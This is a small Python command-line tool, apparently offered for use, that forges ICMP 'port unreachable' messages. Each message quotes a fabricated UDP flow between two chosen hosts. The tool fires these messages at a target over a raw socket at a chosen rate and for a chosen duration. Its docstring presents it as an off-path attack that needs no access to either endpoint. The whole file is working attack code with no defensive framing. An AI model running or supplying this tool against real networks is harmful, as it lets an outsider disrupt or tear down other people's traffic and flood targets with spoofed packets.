"""port_unreachable.py TARGET SECONDS PER_SECOND FROM TO PORT …: sends TARGET reports (ICMP, RFC 792: type 3, code 3) that its
datagrams FROM -> TO, PORT to PORT, found nobody. As a stranger would: it needs neither a key nor FROM's or TO's address.
TO may be several, with commas. Says how many were sent."""

import socket
import struct
import sys
import time


def checksum(data):
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def report(source, destination, port):
    packet = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 128, 0, 0x4000, 64, socket.IPPROTO_UDP, 0, socket.inet_aton(source),
                         socket.inet_aton(destination)) + struct.pack("!HHHH", port, port, 108, 0)
    return struct.pack("!BBHI", 3, 3, checksum(struct.pack("!BBHI", 3, 3, 0, 0) + packet), 0) + packet


def main(target, seconds, per_second, source, destinations, port):
    reports = [report(source, destination, int(port)) for destination in destinations.split(",")]
    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
    begun = time.monotonic()
    sent = 0
    while (passed := time.monotonic() - begun) < float(seconds):
        while sent < passed * float(per_second):
            raw.sendto(reports[sent % len(reports)], (target, 0))
            sent += 1
        time.sleep(0.0005)
    print(sent)


main(*sys.argv[1:])
